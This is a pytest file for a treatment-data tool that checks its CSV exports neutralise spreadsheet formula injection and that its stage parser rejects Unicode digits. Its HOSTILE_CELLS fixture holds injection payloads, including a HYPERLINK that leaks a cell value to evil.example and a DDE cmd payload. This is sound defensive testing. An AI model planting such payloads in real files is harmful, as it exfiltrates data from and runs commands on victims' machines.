"""Hostile tables, round two: line breaks in cells, colliding headers, odd encodings and digits."""

import csv
import io
import re

import pandas as pd
import pytest

from avn_data.cli import EXIT_OK, main
from avn_data.tables.columns import TABLE_COLUMNS
from avn_data.tables.load import load_table
from avn_data.tables.problems import TableError
from avn_data.tables.schema import TREATMENTS
from avn_data.tables.stage_numbers import stage_number
from avn_data.tables.template import template_csv_bytes
from avn_data.view.export import FORMULA_STARTS, to_csv_bytes
from avn_data.view.filters import parse_stage
from tests.tables import csv_bytes, make_row

# Every way a spreadsheet ends a line: Excel and LibreOffice start a new row at each of these.
LINE_BREAK = re.compile(r"\r\n|\r|\n")
HOSTILE_CELLS = {
    "name": 'Evil\r=HYPERLINK("https://evil.example","Click")',
    "side_effects": 'Mild nausea\r=HYPERLINK("https://evil.example/?leak="&A1,"More")',
    "cautions": "None known.\n+SUM(1+1)",
    "how_it_works": "It works.\r\n-2+3\r\n@SUM(A1)",
    "regimen": "\r=cmd|' /C calc'!A0",
    "sources": "Someone 2020\r\t=1+1\r\r=2+2",
    "questions_to_ask": "Is it for me?\n\r-1",
}


def hostile_table() -> pd.DataFrame:
    return load_table(csv_bytes([make_row(**HOSTILE_CELLS), make_row(treatment_id="plain")]))


def spreadsheet_rows(text: str) -> list[list[str]]:
    """Rows as Excel and LibreOffice split them: at any \\r, \\n or \\r\\n outside quotes."""
    rows: list[list[str]] = []
    row: list[str] = []
    field: list[str] = []
    quoted = False
    position = 0
    while position < len(text):
        char = text[position]
        if quoted and char == '"' and text[position + 1 : position + 2] == '"':
            field.append('"')
            position += 1
        elif char == '"':
            quoted = not quoted
        elif quoted or char not in ",\r\n":
            field.append(char)
        elif char == ",":
            row.append("".join(field))
            field = []
        else:
            rows.append([*row, "".join(field)])
            row, field = [], []
            if text[position : position + 2] == "\r\n":
                position += 1
        position += 1
    if row or field:
        rows.append([*row, "".join(field)])
    return rows


# A negative number is read as that number, not run as a formula.
NEGATIVE_NUMBER = re.compile(r"-[0-9]+(\.[0-9]*)?([eE][-+]?[0-9]+)?")


def assert_inert(field: str) -> None:
    """No line of the cell, as a spreadsheet would split it, can start a formula."""
    for line in LINE_BREAK.split(field):
        if not NEGATIVE_NUMBER.fullmatch(line):
            assert not line.startswith(FORMULA_STARTS), repr(field)


def assert_safe_csv(data: bytes, frame_rows: int) -> None:
    text = data.decode("utf-8-sig")
    # 1. As a spreadsheet splits rows: quoted line breaks stay in their cell, so no row is added.
    rows = spreadsheet_rows(text)
    assert len(rows) == frame_rows + 1, rows
    for field in (field for row in rows for field in row):
        assert_inert(field)
    # 2. As Python's csv module reads it.
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert len(parsed) == frame_rows + 1
    for field in (field for row in parsed for field in row):
        assert_inert(field)
    # 3. Line by line with no regard to quotes, as the crudest importer would.
    for line in LINE_BREAK.split(text):
        assert_inert(line.partition(",")[0])


def test_every_line_of_a_hostile_cell_is_inert_in_the_export():
    frame = pd.DataFrame(
        {
            **{name: [value, "plain"] for name, value in HOSTILE_CELLS.items()},
            "=HYPERLINK(1)": ["a", "b"],
            "header\r=cmd": ["c", "d"],
            "score": [1, -2],
        }
    )
    for excel_bom in (True, False):
        assert_safe_csv(to_csv_bytes(frame, excel_bom=excel_bom), len(frame))


def test_the_export_keeps_the_text_readable():
    frame = pd.DataFrame({"side_effects": ["Mild nausea\r=HYPERLINK(1)"], "score": [-2]})
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame)), encoding="utf-8-sig")
    assert back.at[0, "side_effects"] == "Mild nausea\r'=HYPERLINK(1)"
    assert back.at[0, "score"] == -2


def test_the_command_line_export_of_an_uploaded_hostile_table_is_inert(tmp_path, capsys):
    path = tmp_path / "hostile.csv"
    extra = (*TABLE_COLUMNS, "=cmd")
    path.write_bytes(csv_bytes([make_row(**HOSTILE_CELLS, **{"=cmd": "-1+1"})], columns=extra))
    assert main(["export", "--data", str(path), "--all-columns"]) == EXIT_OK
    out = capsys.readouterr().out
    assert "Mild nausea\r'=HYPERLINK" in out
    assert_safe_csv(out.encode(), 1)


def test_the_browser_download_of_a_hostile_table_is_inert():
    table = hostile_table()
    assert_safe_csv(to_csv_bytes(table), len(table))


def test_the_template_made_from_a_hostile_table_is_inert():
    table = hostile_table().assign(treatment_id=["physical-therapy", "plain"])
    assert_safe_csv(template_csv_bytes(table), 1)


# One table of stage inputs for both sides: links (filters.parse_stage) and table cells.
STAGE_CASES = [
    ("0", 0), ("1", 1), ("2", 2), ("3", 3), ("4", 4),
    ("I", 1), ("II", 2), ("III", 3), ("IV", 4), ("i", 1), ("ii", 2), ("iii", 3), ("iv", 4),
    ("Iv", 4), ("iI", 2), (" 2 ", 2), (" II ", 2),
    ("5", None), ("9", None), ("-1", None), ("V", None), ("IIII", None), ("vi", None),
    ("0.0", None), ("2.0", None), ("02", None), ("+2", None), ("1e0", None), ("2 3", None),
    ("two", None), ("I I", None),
    # Digits int() and a regex's \d accept: full-width, Arabic-Indic, Persian, Devanagari,
    # mathematical bold; then superscript two, Roman numeral signs, full-width I.
    ("\uff12", None), ("\u0662", None), ("\u06f2", None), ("\u0968", None), ("\U0001d7d0", None),
    ("\u00b2", None), ("\u2161", None), ("\u2171", None), ("\uff29\uff29", None),
]  # fmt: skip


@pytest.mark.parametrize(("text", "stage"), STAGE_CASES)
def test_stage_number_accepts_ascii_digits_and_roman_numerals_only(text, stage):
    if stage is None:
        with pytest.raises(ValueError, match="must be 0–4 or I–IV"):
            stage_number(text)
    else:
        assert stage_number(text) == stage


@pytest.mark.parametrize(("text", "stage"), STAGE_CASES)
def test_links_read_stages_by_the_same_rule(text, stage):
    if stage is None:
        with pytest.raises(ValueError, match="must be 0–4 or I–IV"):
            parse_stage(text)
    else:
        assert parse_stage(text) == stage


@pytest.mark.parametrize("column", ["stage_min", "stage_max"])
@pytest.mark.parametrize(("text", "stage"), STAGE_CASES)
def test_table_stage_cells_follow_the_same_rule(text, stage, column):
    """As links do, except that a table cell may write a whole stage as '2.0' (pandas and
    spreadsheets save a column with blanks that way), as every whole-number cell may."""
    other = {"stage_min": "0", "stage_max": "4"}
    row = make_row(**{**other, column: text})
    if re.fullmatch(r"\s*[0-4]\.0+\s*", text):
        stage = int(float(text))
    if stage is None:
        with pytest.raises(TableError) as caught:
            load_table(csv_bytes([row]))
        problems = [str(problem) for problem in caught.value.problems]
        expected = f"'{text.strip()}' is not {TREATMENTS.expectations[column]}"
        assert problems == [f"row 2, column '{column}': {expected}"]
    else:
        table = load_table(csv_bytes([row]))
        assert table.at[0, column] == stage
        assert table[column].dtype == "int64"
